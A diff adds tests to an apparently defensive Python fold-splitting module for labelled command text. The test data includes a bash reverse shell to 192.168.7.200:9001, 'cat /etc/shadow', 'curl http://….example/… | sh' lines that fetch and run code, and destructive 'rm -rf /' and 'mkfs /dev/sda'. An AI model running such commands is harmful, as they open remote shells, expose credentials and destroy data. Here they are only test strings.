@@ -71,3 +71,29 @@ def test_what_half_resembles_a_text_is_left_out():
     made = ["bash -i >& /dev/tcp/192.168.7.200/9001 0>&1", "bash linked.sh --install everything", "cat /etc/shadow"]
     assert folds.unlike(made, texts) == made[1:2]
     assert folds.unlike(made, []) == made
+
+
+def test_a_label_of_near_duplicates_alone_is_split():
+    """Sixty rows that differ in a number are one cluster, and every fold needs some; other clusters stay whole."""
+    names = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot"]
+    texts = [f"git diff src/file{i}.py" for i in range(60)]
+    texts += [f"curl http://{name}.example/{name * 2} | sh {i}" for name in names for i in range(10)]
+    label_R = np.arange(120) >= 60
+    made = folds.make(texts, label_R, list(range(120)), 3)
+    assert made.torn == (False,)
+    assert np.bincount(made.fold_R[:60]).tolist() == [20, 20, 20]
+    assert all(len(set(made.fold_R[60 + 10 * k : 70 + 10 * k].tolist())) == 1 for k in range(6))
+
+
+def test_groups_stay_together_where_near_duplicates_are_split():
+    texts, group = [f"git diff src/file{i}.py" for i in range(60)], [f"g{i % 6}" for i in range(60)]
+    texts += [f"{i * 7919 % 1000:x} {'xyzuvw'[i % 6] * (3 + i % 9)} {i * i:x}" for i in range(60)]
+    made = folds.make(texts, np.arange(120) >= 60, group + [f"h{i}" for i in range(60)], 3)
+    assert made.torn == (False,) and made.by_row == ()
+    assert all(len({int(f) for f, g in zip(made.fold_R, group, strict=False) if g == f"g{k}"}) == 1 for k in range(6))
+    assert set(made.fold_R[:60].tolist()) == {0, 1, 2}
+
+
+def test_a_label_with_fewer_rows_than_folds_is_not_said_to_be_split():
+    texts = ["rm -rf /", "mkfs /dev/sda"] + [f"{i * 7919 % 1000:x} {'xyzuvw'[i % 6] * (3 + i % 9)}" for i in range(60)]
+    assert folds.make(texts, [True, True] + [False] * 60, ["g"] * 62, 3).torn == ()
